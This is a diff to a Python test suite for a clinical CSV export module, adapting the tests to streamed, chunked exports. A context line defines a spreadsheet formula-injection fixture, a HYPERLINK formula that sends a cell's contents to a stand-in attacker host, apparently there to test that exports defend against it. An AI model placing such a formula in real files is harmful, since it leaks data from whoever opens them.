@@ -26,7 +26,9 @@ NOTE = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
 CRITERIA = ("disease_activity", "no_new_activity", "pga", "prednisone", "immunosuppressants")
 
 
-def read(data: bytes) -> list[dict[str, str]]:
+def read(chunks) -> list[dict[str, str]]:
+    """A CSV export (a stream of chunks) read back whole."""
+    data = b"".join(chunks)
     assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for spreadsheet programs"
     return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
 
@@ -237,7 +239,7 @@ def test_dictionary_describes_every_exported_column_and_nothing_else(db_session,
     described = {(row["export"], row["column"]) for row in exports.dictionary()}
     exported = set()
     for name in exports.DOMAINS:
-        data_ = exports.export_csv(db_session, name, site_id=site.id, actor=actor, now=now_utc())
+        data_ = b"".join(exports.export_csv(db_session, name, site_id=site.id, actor=actor, now=now_utc()))
         header = next(csv.reader(io.StringIO(data_.decode("utf-8-sig"))))
         assert len(header) == len(set(header)), name
         exported |= {(name, column) for column in header}
